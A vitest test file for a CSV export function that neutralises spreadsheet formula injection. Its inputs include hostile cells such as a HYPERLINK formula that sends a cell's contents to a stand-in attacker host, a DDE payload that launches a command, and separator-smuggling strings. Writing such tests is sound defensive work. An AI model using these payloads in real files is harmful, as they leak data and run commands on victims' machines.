import { expect, test } from "vitest";
import { csvRow } from "./csv.ts";

/** The cells of a spreadsheet that expects another separator; quotes hide neither it nor a line break there. */
function readWith(separator: string, row: string): string[] {
  return row.split(new RegExp(`${separator}|\\r|\\n`)).map((cell) => cell.replace(/^[\s"]+/, ""));
}

test.each([",", ";", "\t"])("no cell is a formula when read with %j", (separator) => {
  for (const cell of [
    '=HYPERLINK("http://evil.example")',
    'Ana;=HYPERLINK("http://evil.example/?"&A1)',
    "Ana, =1+1",
    "Ana\t@SUM(A1)",
    'Ana;"=1+1;',
    "hola\n=1+1;=cmd|' /C calc'!A0;x",
    "hola\r\n\n  -1;\t+1",
    "\t=1",
    "Ana;＝1+1",
  ]) {
    const row = csvRow(["id", cell, "end"]);
    for (const read of readWith(separator, row)) expect(read, row).not.toMatch(/^[=+\-@＝]/);
  }
});

test("other text stays as it is, and a phone number gets one apostrophe", () => {
  const message = "Uno; dos, tres - cuatro\n\nTel.: +54 11 5555 0101, ana@correo.example";
  expect(csvRow([message, 7])).toBe(`"${message}",7\r\n`);
  expect(csvRow(["+54 11 5555 0101", "\tx"])).toBe(`"'+54 11 5555 0101","'\tx"\r\n`);
});

test("an export does not stop at a message of line breaks", () => {
  const message = `Hola${"\n".repeat(300_000)}=1`;
  expect(csvRow([message])).toBe(`"${message.replace("=", "'=")}"\r\n`);
});
